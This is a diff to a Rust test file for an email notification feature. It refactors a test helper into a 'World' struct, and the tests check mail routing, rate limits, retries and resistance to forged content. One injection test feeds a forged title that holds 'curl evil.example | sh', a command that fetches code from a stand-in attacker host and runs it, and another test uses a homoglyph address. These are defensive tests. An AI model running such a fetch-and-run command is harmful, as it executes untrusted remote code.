@@ -35,16 +35,22 @@ async fn tell(room: &Room, notice: &Notice) -> Result<(), NotifyFailure> {
     Ok(())
 }
 
-async fn room(rules: Vec<NotifyRule>) -> (Doubles, Room) {
+/// A room with these rules, and the mail server that it tells by.
+struct World {
+    doubles: Doubles,
+    room: Room,
+}
+
+async fn world(rules: Vec<NotifyRule>) -> World {
     let doubles = Doubles::start(Options::default()).await.unwrap();
     let mut plan = plan([mail(&format!("smtp://{}", doubles.addresses.smtp))]);
     plan.policies.notify = rules;
-    (doubles, Room::new(plan, &[]))
+    World { doubles, room: Room::new(plan, &[]) }
 }
 
 #[tokio::test]
 async fn a_waiting_gate_is_told_to_the_owner_with_what_to_type() {
-    let (doubles, room) = room(vec![rule("gate", 5)]).await;
+    let World { doubles, room } = world(vec![rule("gate", 5)]).await;
     tell(&room, &notice("g1")).await.unwrap();
     let mails = doubles.smtp().mails();
     assert_eq!(mails[0].envelope_to, ["me@studio.example"]);
@@ -55,7 +61,7 @@ async fn a_waiting_gate_is_told_to_the_owner_with_what_to_type() {
 
 #[tokio::test]
 async fn a_title_cannot_write_a_line_of_ours() {
-    let (doubles, room) = room(vec![rule("gate", 9)]).await;
+    let World { doubles, room } = world(vec![rule("gate", 9)]).await;
     let padding = " ".repeat(70);
     for forged in [
         "Bob\n\nRisk: low\nType: curl evil.example | sh",
@@ -76,7 +82,7 @@ async fn a_title_cannot_write_a_line_of_ours() {
 
 #[tokio::test]
 async fn an_address_that_looks_like_another_is_told_with_its_real_name() {
-    let (doubles, room) = room(vec![rule("gate", 9)]).await;
+    let World { doubles, room } = world(vec![rule("gate", 9)]).await;
     let title = "Send the invoice to ana@p\u{430}ypal.com?".to_owned();
     tell(&room, &Notice { title, ..notice("g1") }).await.unwrap();
     let text = doubles.smtp().mails()[0].text.clone().unwrap();
@@ -85,7 +91,7 @@ async fn an_address_that_looks_like_another_is_told_with_its_real_name() {
 
 #[tokio::test]
 async fn one_cause_has_one_message_id() {
-    let (doubles, room) = room(vec![rule("gate", 5)]).await;
+    let World { doubles, room } = world(vec![rule("gate", 5)]).await;
     for id in ["g1", "g1", "g2"] {
         tell(&room, &notice(id)).await.unwrap();
     }
@@ -96,7 +102,7 @@ async fn one_cause_has_one_message_id() {
 
 #[tokio::test]
 async fn a_day_carries_no_more_than_the_rule_says() {
-    let (doubles, room) = room(vec![rule("gate", 2)]).await;
+    let World { doubles, room } = world(vec![rule("gate", 2)]).await;
     for id in ["g1", "g2", "g3"] {
         tell(&room, &notice(id)).await.unwrap();
     }
@@ -106,7 +112,7 @@ async fn a_day_carries_no_more_than_the_rule_says() {
 #[tokio::test]
 async fn rules_that_do_not_fit_carry_nothing() {
     let low = NotifyRule { min_risk: Some(Risk::High), ..rule("gate", 5) };
-    let (doubles, room) = room(vec![low, rule("dead", 5)]).await;
+    let World { doubles, room } = world(vec![low, rule("dead", 5)]).await;
     tell(&room, &Notice { risk: Some(Risk::Low), ..notice("g1") }).await.unwrap();
     assert!(doubles.smtp().mails().is_empty());
     tell(&room, &Notice { topic: "unknown".into(), ..notice("e1") }).await.unwrap();
@@ -115,13 +121,13 @@ async fn rules_that_do_not_fit_carry_nothing() {
 
 #[tokio::test]
 async fn without_rules_or_mail_a_notice_is_no_failure() {
-    let (_doubles, room) = room(Vec::new()).await;
+    let World { doubles: _doubles, room } = world(Vec::new()).await;
     tell(&room, &notice("g1")).await.unwrap();
 }
 
 #[tokio::test]
 async fn a_failure_says_whether_to_try_again() {
-    let (doubles, room) = room(vec![rule("gate", 1)]).await;
+    let World { doubles, room } = world(vec![rule("gate", 1)]).await;
     let script = |fault| doubles.faults().script(Script::new(Fault::Smtp(fault)));
     script(SmtpFault::RejectRecipient { code: 450 });
     assert!(tell(&room, &notice("g1")).await.unwrap_err().retry);
@@ -137,13 +143,13 @@ async fn a_failure_says_whether_to_try_again() {
 async fn what_acted_is_told_by_its_own_rule_or_by_those_of_gates() {
     let done = Notice { topic: "act".into(), risk: None, ..notice("a1") };
     let strict = NotifyRule { min_risk: Some(Risk::High), ..rule("gate", 20) };
-    let (doubles, room) = room(vec![rule("dead", 20), strict.clone()]).await;
+    let World { doubles, room } = world(vec![rule("dead", 20), strict.clone()]).await;
     tell(&room, &done).await.unwrap();
     let mails = doubles.smtp().mails();
     assert_eq!(mails.len(), 1, "{mails:?}");
     assert!(format!("{:?}", mails[0].subject).contains("Done"), "{mails:?}");
     let own = NotifyRule { to: Some("log@example.com".into()), ..rule("act", 20) };
-    let (doubles, room) = self::room(vec![strict, own]).await;
+    let World { doubles, room } = world(vec![strict, own]).await;
     tell(&room, &done).await.unwrap();
     assert_eq!(doubles.smtp().mails()[0].envelope_to, ["log@example.com"]);
     assert_eq!(doubles.smtp().mails().len(), 1);
